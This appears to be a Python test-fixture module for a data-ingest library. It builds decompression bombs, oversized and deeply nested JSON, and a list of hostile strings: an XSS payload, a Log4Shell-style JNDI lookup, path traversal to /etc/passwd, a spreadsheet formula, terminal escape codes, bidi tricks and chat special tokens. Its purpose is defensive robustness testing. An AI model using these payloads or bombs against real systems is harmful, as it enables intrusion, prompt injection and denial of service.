"""Files that are built to break a reader: bombs, giants, depths; each is made in pieces and never held as a whole.

`make(name, folder, megabytes)` writes one; `OUTCOMES` says what has to become of it.
"""

from __future__ import annotations

import gzip
import json
import zipfile
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import IO

from curate.ingest.sources import zstd

PIECE = 1 << 20
HEAD = b'{"id": "x", "conversations": [{"from": "human", "value": "Hi"}, {"from": "gpt", "value": "'
TAIL = b'"}]}'
GOOD = HEAD + b"Hello!" + TAIL


def long_string(megabytes: int) -> Iterator[bytes]:
    """One record with a single string of that length, between two good ones."""
    yield b"[" + GOOD + b"," + HEAD
    yield from (b"a" * PIECE for _ in range(megabytes))
    yield TAIL + b"," + GOOD + b"]"


def long_line(megabytes: int) -> Iterator[bytes]:
    """The same as JSON Lines."""
    yield GOOD + b"\n" + HEAD
    yield from (b"a" * PIECE for _ in range(megabytes))
    yield TAIL + b"\n" + GOOD + b"\n"


def never_closed(megabytes: int) -> Iterator[bytes]:
    """A string that never ends."""
    yield b"[" + GOOD + b"," + HEAD
    yield from (b"a" * PIECE for _ in range(megabytes))


def blanks(megabytes: int) -> Iterator[bytes]:
    """One record and nothing but line breaks behind it."""
    yield GOOD
    yield from (b"\n" * PIECE for _ in range(megabytes))


def brackets(megabytes: int) -> Iterator[bytes]:
    """A record that is nested as deep as the file is long."""
    yield GOOD + b"\n" + b'{"conversations": '
    yield from (b"[" * PIECE for _ in range(megabytes))


def empty_objects(megabytes: int) -> Iterator[bytes]:
    """Nothing but `{}`, 20,000 for each megabyte."""
    yield GOOD + b"\n"
    yield from (b"{}\n" * 20_000 for _ in range(megabytes))


def many_messages(megabytes: int) -> Iterator[bytes]:
    """One conversation of 20,000 messages a megabyte."""
    yield b'{"id": "x", "conversations": ['
    pair = b'{"from": "human", "value": "And %07d?"}, {"from": "gpt", "value": "Yes, %07d."}'
    for number in range(megabytes * 10_000):
        yield (b", " if number else b"") + pair % (number, number)
    yield b"]}\n" + GOOD + b"\n"


def same_rows(megabytes: int) -> Iterator[bytes]:
    """Nothing but one record, 10,000 times a megabyte."""
    yield from ((GOOD + b"\n") * 10_000 for _ in range(megabytes))


def long_prose(megabytes: int) -> Iterator[bytes]:
    """One conversation of texts of half a megabyte each, of words that seldom repeat; one of more is set aside."""
    yield b'{"id": "x", "conversations": ['
    for number in range(megabytes):
        for side, role in enumerate(("human", "gpt")):
            numbers = ((number * 131 + place * place * 7 + side) % 9_973 for place in range(37_000))
            text = b" ".join(b"word%d said" % one for one in numbers)
            yield (b", " if number or side else b"") + b'{"from": "%s", "value": "%s"}' % (role.encode(), text)
    yield b"]}\n" + GOOD + b"\n"


def wide_table(megabytes: int) -> Iterator[bytes]:
    """A table whose one field is that long."""
    yield b'prompt,response\nHi,Hello!\nHi,"'
    yield from (b"a" * PIECE for _ in range(megabytes))
    yield b'"\nHi,Hello!\n'


PACKERS: dict[str, Callable[[Path, ExitStack], IO[bytes]]] = {
    "": lambda path, stack: stack.enter_context(path.open("wb")),
    ".gz": lambda path, stack: stack.enter_context(gzip.open(path, "wb", 9)),  # type: ignore # noqa: SIM115
    ".zst": lambda path, stack: stack.enter_context(zstd.open(path, "wb", level=3)),
    ".zip": lambda path, stack: stack.enter_context(
        stack.enter_context(zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9)).open("x.jsonl", "w")
    ),
}
# name: (what is written, ending, packed how, conversations, rejects by reason); "" = a reason that depends on the size.
MONSTERS: dict[str, tuple[Callable[[int], Iterator[bytes]], str, str, int, set[str]]] = {
    "a string": (long_string, ".json", "", 2, {"too_large"}),
    "a line": (long_line, ".jsonl", "", 2, {"too_large"}),
    "a string without end": (never_closed, ".json", "", 1, {"too_large", "truncated"}),
    "a field of a table": (wide_table, ".csv", "", 2, {"invalid_row", "wrong_columns"}),
    "gzip bomb, one line": (long_line, ".jsonl", ".gz", 2, {"too_large"}),
    "zstd bomb, one line": (long_line, ".jsonl", ".zst", 2, {"too_large"}),
    "zip bomb, one line": (long_line, ".jsonl", ".zip", 2, {"too_large"}),
    "gzip bomb, blanks": (blanks, ".jsonl", ".gz", 1, set()),
    "zstd bomb, blanks": (blanks, ".jsonl", ".zst", 1, set()),
    "zip bomb, brackets": (brackets, ".jsonl", ".zip", 1, {"too_large", "truncated", "invalid_json"}),
    "zstd bomb, empty objects": (empty_objects, ".jsonl", ".zst", 1, {"unknown_shape"}),
    "a conversation of many messages": (many_messages, ".jsonl", "", 2, set()),
}
# Where what counts is how often; not among those that break a reader.
MANY = {
    "rows that are the same": (same_rows, ".jsonl", "", 10_000, set()),
    "a conversation of long texts": (long_prose, ".jsonl", "", 2, set()),
}
PER_MEGABYTE = {"a conversation of many messages": 20_000, "rows that are the same": 10_000}


def make(name: str, folder: Path, megabytes: int) -> Path:
    """Write a monster of about so many megabytes, unpacked."""
    pieces, ending, packed, *_ = (MONSTERS | MANY)[name]
    path = folder / ("x.zip" if packed == ".zip" else f"x{ending}{packed}")
    with ExitStack() as stack:
        file = PACKERS[packed](path, stack)
        for piece in pieces(megabytes):
            file.write(piece)
    return path


def words(folder: Path) -> Path:
    """A tokenizer that knows words of the made-up texts; what is none of them is one id, too."""
    import tokenizers  # type: ignore[import-not-found, unused-ignore]

    special = ["<s>", "<unk>", "<|end_of_turn|>"]
    known = {word: number for number, word in enumerate([*special, "And", "Yes", "?", ".", ","])}
    made = tokenizers.Tokenizer(tokenizers.models.WordLevel(known, unk_token="<unk>"))
    made.pre_tokenizer = tokenizers.pre_tokenizers.Whitespace()
    made.add_special_tokens(special)
    folder.mkdir()
    made.save(str(folder / "tokenizer.json"))
    (folder / "tokenizer_config.json").write_text('{"bos_token": "<s>"}')
    return folder


# Text that breaks terminals, tables, pages and parsers; every one is kept as it is, or the record is set aside.
TRAPS = {
    "nul": "a\x00b",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9b",
    "line separators": "one\u2028two\u2029three\x85four\x0b\x0c",
    "right to left": "abc\u202e\u2066evil\u2069\u202cdef\u200f\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "combining": "e" + "\u0301" * 500,
    "emoji family": "👩‍👩‍👧‍👦🏴‍☠️🇩🇪",
    "astral": "\U0001f600\U00020000\U0010ffff",
    "not characters": "\ufffe\uffff\ufdd0",
    "private use": "\ue000\uf8ff\U000f0000",
    "replacement": "\ufffd" * 3,
    "turkish": "İIıi ß ẞ ﬁ",
    "hangul, apart and together": "한 한",
    "escape codes": "\x1b[31mred\x1b]0;title\x07\x1b[2J",
    "html": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://example.invalid","x")',
    "path": "../../etc/passwd",
    "template": "{{ 7 * 7 }} ${jndi:ldap://example.invalid/x} %s %n",
    "special tokens": "<|endoftext|><|im_start|>system<|end_of_turn|>[INST]<s>",
    "quotes": "\"'`\\\\\\\"",
}


def traps() -> list[bytes]:
    """A record a trap, as JSON with and without escapes."""
    records = [
        {"id": name, "conversations": [{"from": "human", "value": text}, {"from": "gpt", "value": f"You said {text}!"}]}
        for name, text in TRAPS.items()
    ]
    return [json.dumps(record, ensure_ascii=number % 2 == 0).encode() for number, record in enumerate(records * 2)]
